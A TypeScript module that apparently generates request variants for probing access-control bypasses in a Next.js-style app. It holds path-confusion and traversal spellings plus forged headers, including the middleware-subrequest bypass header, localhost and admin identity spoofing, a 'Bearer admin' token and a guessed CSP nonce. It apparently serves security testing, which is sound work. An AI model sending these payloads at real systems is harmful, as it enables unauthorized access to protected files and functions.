/** Addresses and headers by which doors of other programs were opened that should have stayed shut. */
import type { Ask } from "./ask";

/** Spellings of an address that a proxy, a router or a cache may read in two ways. */
export function pathTricks(path: string): string[] {
  const id = path.split("/").at(-1) ?? "";
  const folder = path.slice(0, -id.length);
  const first = id.charCodeAt(0).toString(16);
  return [
    path.toUpperCase(),
    `${folder}${id.toUpperCase()}`,
    `${path}/`,
    `/${path}`,
    `${path}.jpg`,
    `${path};.css`,
    `${path}%00`,
    `${path}%2f`,
    `${path}?id=${id}`,
    `${folder}./${id}`,
    `${folder}x/../${id}`,
    `${folder}%2e%2e/uploads/${id}`,
    `${folder}%${first}${id.slice(1)}`,
    `${folder}..;/${id}`,
    `/_next/..${path}`,
    `/_next/static/..%2f..%2f..${path}`,
    `/en${path}`,
    `/api/desk/merchants/${id}/uploads/${id}`,
    `/_next/data/build${path}.json`,
    `${path}.rsc`,
    `${path}.txt`,
  ];
}

const deep = (name: string) => Array.from({ length: 5 }, () => name).join(":");

/** An address with one header more, or one that says that it has been looked at already. */
export function headerTricks(path: string): Ask[] {
  const headers: Record<string, string>[] = [
    { "x-middleware-subrequest": deep("proxy") },
    { "x-middleware-subrequest": deep("src/middleware") },
    { "x-middleware-subrequest": deep("middleware") },
    { "x-middleware-prefetch": "1", Purpose: "prefetch" },
    { "x-nextjs-data": "1" },
    { "x-matched-path": path },
    { "x-invoke-path": path, "x-invoke-output": path, "x-invoke-status": "200" },
    { "x-now-route-matches": "1=1", "x-matched-path": "/api/uploads/[id]" },
    { "x-original-url": path, "x-rewrite-url": path },
    { "x-http-method-override": "GET", "x-method-override": "GET" },
    { "x-forwarded-host": "evil.test", "x-forwarded-proto": "https" },
    { "x-forwarded-for": "127.0.0.1", "x-real-ip": "127.0.0.1", forwarded: "for=127.0.0.1" },
    { "x-forwarded-user": "admin", "x-remote-user": "admin", "x-auth-request-email": "staff@partner.test" },
    { Authorization: "Bearer admin" },
    { Range: "bytes=0-1023" },
    { Range: "bytes=-512,0-0" },
    { "If-None-Match": "*", "If-Modified-Since": "Thu, 01 Jan 1970 00:00:00 GMT" },
    { "Next-Router-State-Tree": "%5B%22%22%5D", RSC: "1", "Next-Router-Prefetch": "1" },
    { "Next-Action": "0".repeat(42) },
    { Accept: "application/json", "Content-Type": "application/json" },
    { "x-nonce": "guessed", "content-security-policy": "script-src 'nonce-guessed'" },
  ];
  return headers.map((one) => ({ path, init: { headers: one } }));
}
